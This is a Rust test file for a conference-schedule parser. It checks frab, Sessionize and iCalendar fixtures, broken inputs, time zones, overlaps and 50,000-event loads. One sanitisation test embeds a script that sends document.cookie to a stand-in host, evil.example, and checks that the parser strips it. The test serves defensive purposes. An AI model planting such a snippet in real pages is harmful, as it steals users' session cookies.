//! Reading conference schedules: one fixture per format under
//! tests/fixtures/schedule/ (fictional programmes of the conferences the
//! shipped notes cover, with talks the notes have, near misses and talks
//! without notes), then hostile inputs: broken files, events without
//! titles or lengths or zones, HTML with scripts, 50 000 events, and notes
//! that only mention schedule words.
//!
//! No test measures time (a project rule): the big input proves it reads.

use crate::common;

use confnotes::schedule::{detect, read, Event, Schedule, ScheduleFormat};

fn fixture(name: &str, format: ScheduleFormat) -> Schedule {
    let path = common::root().join("tests/fixtures/schedule").join(name);
    let bytes = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    assert_eq!(detect(&bytes), Some(format), "{name}");
    let schedule = read(name, &bytes).expect("a schedule");
    assert_eq!(schedule.format, format);
    assert_eq!(schedule.source, name);
    schedule
}

fn event<'s>(schedule: &'s Schedule, title: &str) -> &'s Event {
    schedule
        .events
        .iter()
        .find(|e| e.title == title)
        .unwrap_or_else(|| panic!("no event “{title}” in {:#?}", titles(schedule)))
}

fn titles(schedule: &Schedule) -> Vec<&str> {
    schedule.events.iter().map(|e| e.title.as_str()).collect()
}

fn rfc3339(t: Option<chrono::DateTime<chrono::FixedOffset>>) -> String {
    t.map(|t| t.to_rfc3339()).unwrap_or_default()
}

/// A schedule read from text, with the diagnostics checked to name it.
fn read_text(source: &str, text: &str) -> Schedule {
    let schedule = read(source, text.as_bytes()).expect("detected as a schedule");
    for d in &schedule.diagnostics {
        assert!(d.starts_with(&format!("{source}: ")), "{d}");
    }
    schedule
}

#[test]
fn frab_xml_fixture() {
    let s = fixture("kubecon-eu-2023.xml", ScheduleFormat::FrabXml);
    assert_eq!(
        s.conference.as_deref(),
        Some("KubeCon + CloudNativeCon Europe 2023")
    );
    assert_eq!(s.timezone.as_deref(), Some("Europe/Amsterdam"));
    assert_eq!(s.events.len(), 10);
    let palm = event(&s, "A CI/CD Platform in the Palm of Your Hand");
    assert_eq!(palm.uid, "3c1f0b2a-0000-4000-8000-00000000a101");
    assert_eq!(palm.speakers, ["Claudia Beresford"]);
    assert_eq!(rfc3339(palm.start), "2023-04-19T11:00:00+02:00");
    assert_eq!(rfc3339(palm.end), "2023-04-19T11:35:00+02:00");
    assert_eq!(palm.room.as_deref(), Some("Hall 7, Room A"));
    assert_eq!(
        (palm.track.as_deref(), palm.kind.as_deref()),
        (Some("CI/CD"), Some("Talk"))
    );
    assert_eq!(
        palm.url.as_deref(),
        Some("https://schedule.example.org/kceu23/talk/101/")
    );
    let links: Vec<(&str, &str)> = palm
        .links
        .iter()
        .map(|l| (l.label.as_str(), l.url.as_str()))
        .collect();
    assert_eq!(
        links,
        [
            ("Recording", "https://video.example.org/kceu23/101"),
            ("Slides", "https://slides.example.org/kceu23/101.pdf")
        ]
    );
    assert_eq!(
        palm.abstract_text,
        "MicroVMs on a board you can hold: Flintlock, Liquid Metal & a rack of tiny machines.\n\nBring questions."
    );
    let wasm = event(&s, "Hands on with WebAssembly Microservices and Kubernetes");
    assert_eq!(wasm.speakers.len(), 4);
    assert_eq!(wasm.subtitle.as_deref(), Some("Bring a laptop"));
    assert!(wasm
        .abstract_text
        .ends_with("\n\nInstall spin & kwasm before you come."));
    let ebpf = event(&s, "Verifiable GitHub Actions with eBPF");
    assert!(ebpf
        .abstract_text
        .starts_with("Which binaries did your CI job really run?\nA tour"));
    let argo = event(
        &s,
        "Unlocking Argo CD’s Hidden Tools for Chaos Engineering - Featuring VCluster and More",
    );
    assert_eq!(
        argo.abstract_text,
        "Argo CD’s sync hooks as a chaos engine."
    );
    assert_eq!(argo.links[0].label, "Slides (PDF)");
    // No <date>: the day's date and <start>, in the conference's zone.
    let kata = event(
        &s,
        "Experience with “Hard Multi-Tenancy” in Kubernetes Using Kata Containers",
    );
    assert_eq!(rfc3339(kata.start), "2023-04-20T14:30:00+02:00");
    assert_eq!(
        s.diagnostics,
        ["kubecon-eu-2023.xml: 1 time without a zone; read in Europe/Amsterdam"]
    );
}

#[test]
fn frab_json_fixture() {
    let s = fixture("kcd-amsterdam-2023.json", ScheduleFormat::FrabJson);
    assert_eq!(
        s.conference.as_deref(),
        Some("Kubernetes Community Days Amsterdam 2023")
    );
    assert_eq!(s.timezone.as_deref(), Some("Europe/Amsterdam"));
    assert_eq!(s.events.len(), 7);
    let gitops = event(&s, "GitOps Patterns for managing cloud native applications");
    assert_eq!(gitops.uid, "7f1e9a00-0000-4000-8000-0000000b0001");
    assert_eq!(gitops.speakers, ["Ruth Example"]);
    assert_eq!(rfc3339(gitops.start), "2023-02-20T10:30:00+01:00");
    assert_eq!(rfc3339(gitops.end), "2023-02-20T11:10:00+01:00");
    assert_eq!(
        (gitops.room.as_deref(), gitops.track.as_deref()),
        (Some("Main Stage"), Some("GitOps"))
    );
    assert_eq!(
        gitops.links[0].url,
        "https://github.com/example/kcd-gitops-patterns"
    );
    assert_eq!(gitops.links[0].label, "Demo code");
    assert_eq!(
        gitops.abstract_text,
        "Sync waves, hooks, app-of-apps and ApplicationSets… and how to promote between environments."
    );
    let mesh = event(&s, "Service MESH without the MESS");
    assert_eq!(mesh.speakers, ["Raymond de Jong"]);
    assert_eq!(
        mesh.abstract_text,
        "eBPF makes the kernel programmable.\nCilium gives a mesh without sidecars."
    );
    let near = event(
        &s,
        "GitOps Anti-Patterns for managing cloud native applications",
    );
    assert_eq!(near.kind.as_deref(), Some("Lightning talk"));
    assert_eq!(
        event(&s, "Detecting cloud and container threats").abstract_text,
        "Falco rules & runtime security."
    );
    assert!(s.diagnostics.is_empty(), "{:?}", s.diagnostics);
}

#[test]
fn sessionize_fixture() {
    let s = fixture(
        "kubecon-na-2020.sessionize.json",
        ScheduleFormat::Sessionize,
    );
    assert_eq!(
        s.events.len(),
        6,
        "the lunch break is a service session: {:?}",
        titles(&s)
    );
    let otel = event(&s, "Keynote: Using OpenTelemetry to empower end users");
    assert_eq!(otel.uid, "310001");
    assert_eq!(otel.speakers, ["Alex Example"]);
    assert_eq!(otel.organizations, ["Telemetry Example Inc"]);
    assert_eq!(
        (otel.track.as_deref(), otel.kind.as_deref()),
        (Some("Keynote"), Some("Keynote"))
    );
    assert_eq!(otel.room.as_deref(), Some("Keynote Stage"));
    assert_eq!(rfc3339(otel.start), "2020-11-18T13:00:00+00:00");
    assert_eq!(otel.links[0].label, "Recording");
    let operators = event(&s, "Stop Writing Operators");
    assert_eq!(operators.speakers, ["Chris Example", "Dana Example"]);
    assert_eq!(
        operators.organizations,
        ["Operator Example GmbH"],
        "“at scale” is not a company"
    );
    assert_eq!(operators.kind.as_deref(), Some("Session Presentation"));
    let http = event(&s, "Moving Cloud Native beyond HTTP");
    assert_eq!(http.organizations, ["Envoy Example"]);
    assert_eq!(http.track.as_deref(), Some("Networking"));
    assert_eq!(
        s.diagnostics,
        ["kubecon-na-2020.sessionize.json: 6 times without a zone; read in UTC"]
    );
}

#[test]
fn icalendar_fixture() {
    let s = fixture("kubecon-eu-2021.ics", ScheduleFormat::ICalendar);
    assert_eq!(
        s.conference.as_deref(),
        Some("KubeCon + CloudNativeCon Europe 2021 – Virtual")
    );
    assert_eq!(s.timezone.as_deref(), Some("Europe/Amsterdam"));
    assert_eq!(s.events.len(), 7);
    let art = event(&s, "The Art of Hiding Yourself");
    assert_eq!(art.uid, "kceu21-fixture-0001@example.org");
    assert_eq!(rfc3339(art.start), "2021-05-06T14:30:00+02:00");
    assert_eq!(rfc3339(art.end), "2021-05-06T15:05:00+02:00");
    assert_eq!(art.room.as_deref(), Some("Virtual Room 1"));
    assert_eq!(art.track.as_deref(), Some("Security, Identity + Policy"));
    assert_eq!(
        art.url.as_deref(),
        Some("https://sched.example.org/kceu21/event/0001")
    );
    assert_eq!(
        art.abstract_text,
        "Lorenzo Fontana, Sysdig\n\nAn attacker's view of a cluster: how to stay out of the audit log; and how defenders still find you."
    );
    let prom = event(&s, "When Prometheus Can’t Take the Load Anymore");
    assert_eq!(rfc3339(prom.start), "2021-05-06T13:30:00+00:00");
    let capi = event(&s, "Cluster API Deep Dive");
    assert_eq!(
        rfc3339(capi.start),
        "2021-05-07T11:00:00+02:00",
        "TZID given as a path"
    );
    assert_eq!(
        rfc3339(capi.end),
        "2021-05-07T12:30:00+02:00",
        "from DURATION"
    );
    assert_eq!(capi.track.as_deref(), Some("Cluster Lifecycle"));
    assert_eq!(
        capi.links[0].url,
        "https://slides.example.org/kceu21/0003.pdf"
    );
    assert!(!capi.abstract_text.contains("alert") && !capi.abstract_text.contains('<'));
    assert!(capi
        .abstract_text
        .ends_with("Providers, machine health checks and clusterctl."));
    let day = event(&s, "Co-located events day");
    assert_eq!(
        (rfc3339(day.start), rfc3339(day.end)),
        (
            "2021-05-03T00:00:00+02:00".into(),
            "2021-05-04T00:00:00+02:00".into()
        )
    );
    let floating = event(&s, "Fictional Operators for Weather Satellites");
    assert_eq!(rfc3339(floating.start), "2021-05-05T17:00:00+02:00");
    assert_eq!(
        s.diagnostics,
        ["kubecon-eu-2021.ics: 1 time without a zone; read in Europe/Amsterdam"]
    );
}

#[test]
fn notes_that_mention_schedule_words_are_not_schedules() {
    let note = "# Planning KubeCon\n\nExport the calendar:\n\n```\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR\n```\n\n\
                The API answers `{\"sessions\": [], \"speakers\": [], \"rooms\": []}` and pretalx has a\n\
                `<schedule><conference>` root.\n";
    assert_eq!(detect(note.as_bytes()), None);
    assert!(read("planning.md", note.as_bytes()).is_none());
    for entry in std::fs::read_dir(common::root().join("notes")).unwrap() {
        let path = entry.unwrap().path();
        if !path.is_file() {
            // The index and state a run on the shipped notes keeps there.
            continue;
        }
        assert_eq!(
            detect(&std::fs::read(&path).unwrap()),
            None,
            "{}",
            path.display()
        );
    }
    assert!(read("config.json", br#"{"sessions": 4, "speakers": "many"}"#).is_none());
}

#[test]
fn broken_files_keep_what_they_read_and_say_where() {
    let xml =
        std::fs::read_to_string(common::root().join("tests/fixtures/schedule/kubecon-eu-2023.xml"))
            .unwrap();
    let cut = &xml[..xml.find("<title>Verifiable GitLab").unwrap() + 20];
    let s = read_text("cut.xml", cut);
    assert_eq!(s.events.len(), 3, "{:?}", titles(&s));
    assert!(
        s.diagnostics
            .iter()
            .any(|d| d.starts_with("cut.xml: invalid XML")),
        "{:?}",
        s.diagnostics
    );

    let s = read_text(
        "cut.json",
        r#"{"schedule": {"conference": {"title": "KCD", "days": [{"rooms": {"A": [{"title": "#,
    );
    assert!(s.events.is_empty());
    assert!(
        s.diagnostics[0].starts_with("cut.json: invalid JSON at line 1"),
        "{:?}",
        s.diagnostics
    );

    let s = read_text("bad.ics", "BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:Kept\nDTSTART:20210506T133000Z\n%%%\nEND:VEVENT\nEND:VTODO\nBEGIN:VEVENT\nSUMMARY:Cut off\n");
    assert_eq!(titles(&s), ["Kept", "Cut off"]);
    assert_eq!(s.diagnostics.len(), 3, "{:?}", s.diagnostics);

    let s = read_text(
        "sz.json",
        r#"{"sessions": [{"title": "x"}], "speakers": [}"#,
    );
    assert!(s.events.is_empty() && s.diagnostics[0].contains("invalid JSON"));
}

#[test]
fn untitled_zero_length_and_repeated_events() {
    let ics = "BEGIN:VCALENDAR\nBEGIN:VEVENT\nUID:1\nDTSTART:20210506T133000Z\nEND:VEVENT\n\
               BEGIN:VEVENT\nUID:2\nSUMMARY:Zero\nDTSTART:20210506T133000Z\nDTEND:20210506T133000Z\nEND:VEVENT\n\
               BEGIN:VEVENT\nUID:2\nSUMMARY:Backwards\nDTSTART:20210506T133000Z\nDTEND:20210506T123000Z\nEND:VEVENT\n\
               BEGIN:VEVENT\nSUMMARY: \nEND:VEVENT\nEND:VCALENDAR\n";
    let s = read_text("odd.ics", ics);
    assert_eq!(titles(&s), ["Zero", "Backwards"]);
    assert_eq!(s.events[1].uid, "2-2");
    assert!(s
        .events
        .iter()
        .all(|e| e.start.is_some() && e.end.is_none()));
    let expected = [
        "odd.ics: event 1 at 2021-05-06T13:30:00+00:00 has no title; skipped",
        "odd.ics: event #4 has no title; skipped",
        "odd.ics: uid “2” repeated by “Backwards”; read as “2-2”",
        "odd.ics: “Zero” ends when it starts; kept without an end",
        "odd.ics: “Backwards” ends before it starts; kept without an end",
    ];
    assert_eq!(s.diagnostics, expected);
}

#[test]
fn times_without_zones_are_said_once() {
    let json = r#"{"schedule": {"conference": {"title": "No zone", "days": [{"date": "2023-02-20", "rooms": {"A": [
        {"title": "One", "start": "10:00", "duration": "00:30"},
        {"title": "Two", "date": "2023-02-20T11:00:00", "duration": "00:30"}]}}]}}}"#;
    let s = read_text("nozone.json", json);
    assert_eq!(rfc3339(s.events[0].start), "2023-02-20T10:00:00+00:00");
    assert_eq!(rfc3339(s.events[1].start), "2023-02-20T11:00:00+00:00");
    assert_eq!(
        s.diagnostics,
        ["nozone.json: 2 times without a zone; read in UTC"]
    );
}

#[test]
fn html_and_scripts_in_abstracts_become_text() {
    let xml = r#"<schedule><conference><title>T</title></conference><day date="2023-04-19"><room name="A">
      <event id="1"><date>2023-04-19T10:00:00+02:00</date><title>Spin &amp;amp; &lt;i&gt;Wasm&lt;/i&gt;</title>
      <abstract>&lt;style&gt;p{}&lt;/style&gt;&lt;p onclick="x()"&gt;Hello&amp;nbsp;world&lt;/p&gt;&lt;SCRIPT&gt;fetch('https://evil.example/?'+document.cookie)&lt;/SCRIPT&gt;&lt;ul&gt;&lt;li&gt;one&lt;li&gt;two&lt;/ul&gt;</abstract>
      </event></room></day></schedule>"#;
    let s = read_text("html.xml", xml);
    assert_eq!(s.events[0].title, "Spin & Wasm");
    assert_eq!(s.events[0].abstract_text, "Hello world\n\n- one\n- two");
}

#[test]
fn overlaps_in_a_room_are_summarised() {
    let mut events = String::new();
    for (i, start) in ["10:00", "10:15", "10:20", "11:00"].iter().enumerate() {
        events += &format!(
            r#"{{"id": {i}, "title": "Talk {i}", "date": "2023-02-20T{start}:00+01:00", "duration": "00:30"}},"#
        );
    }
    let json = format!(
        r#"{{"schedule": {{"conference": {{"days": [{{"rooms": {{"Main": [{}]}}}}]}}}}}}"#,
        events.trim_end_matches(',')
    );
    let s = read_text("overlap.json", &json);
    assert_eq!(s.events.len(), 4);
    assert_eq!(
        s.diagnostics,
        ["overlap.json: 2 events overlap an earlier one in the same room (first: “Talk 1” overlaps “Talk 0” in Main); all kept"]
    );
}

#[test]
fn fifty_thousand_events() {
    const N: usize = 50_000;
    let mut json = String::with_capacity(N * 400);
    json.push_str(r#"{"schedule": {"conference": {"title": "Big", "time_zone_name": "Europe/Amsterdam", "days": ["#);
    for day in 0..10 {
        let sep = if day == 0 { "" } else { "," };
        json += &format!(r#"{sep}{{"date": "2023-04-{:02}", "rooms": {{"#, day + 10);
        for room in 0..50 {
            let sep = if room == 0 { "" } else { "," };
            json += &format!(r#"{sep}"Room {room}": ["#);
            for slot in 0..N / 500 {
                let (id, sep) = (
                    day * 5000 + room * 100 + slot,
                    if slot == 0 { "" } else { "," },
                );
                let (h, m) = (8 + slot / 10, slot % 10 * 5);
                json += &format!(
                    r#"{sep}{{"guid": "g{id}", "title": "Talk {id}", "date": "2023-04-{:02}T{h:02}:{m:02}:00+02:00", "duration": "00:05", "room": "Room {room}", "persons": [{{"public_name": "Speaker {id}"}}], "abstract": "<p>About <b>{id}</b>.</p>", "links": [{{"url": "https://v.example/{id}", "title": "Video"}}]}}"#,
                    day + 10
                );
            }
            json.push(']');
        }
        json.push_str("}}");
    }
    json.push_str("]}}}");
    assert_eq!(detect(json.as_bytes()), Some(ScheduleFormat::FrabJson));
    let s = read("big.json", json.as_bytes()).unwrap();
    assert_eq!(s.events.len(), N);
    assert!(
        s.diagnostics.is_empty(),
        "{:?}",
        &s.diagnostics[..s.diagnostics.len().min(5)]
    );
    assert_eq!(
        s.events
            .iter()
            .filter(|e| e.abstract_text.starts_with("About "))
            .count(),
        N
    );
}

#[test]
fn fifty_thousand_events_with_one_uid_each_get_their_own() {
    // One uid for every event: each repeat gets the next free suffix at
    // once (a walk past every suffix taken would be 1.25 billion look-ups).
    let mut events = String::new();
    for i in 0..50_000 {
        if i > 0 {
            events.push(',');
        }
        events.push_str(&format!(
            r#"{{"guid": "same", "date": "2023-04-19T10:00:00+02:00", "start": "10:00", "duration": "00:30", "room": "R{i}", "title": "Talk {i}", "persons": []}}"#
        ));
    }
    let json = format!(
        r#"{{"schedule": {{"conference": {{"title": "Big", "time_zone_name": "Europe/Amsterdam", "days": [{{"date": "2023-04-19", "rooms": {{"Hall": [{events}]}}}}]}}}}}}"#
    );
    let s = read("big.json", json.as_bytes()).unwrap();
    assert_eq!(s.events.len(), 50_000);
    let uids: std::collections::HashSet<&str> = s.events.iter().map(|e| e.uid.as_str()).collect();
    assert_eq!(uids.len(), 50_000);
}
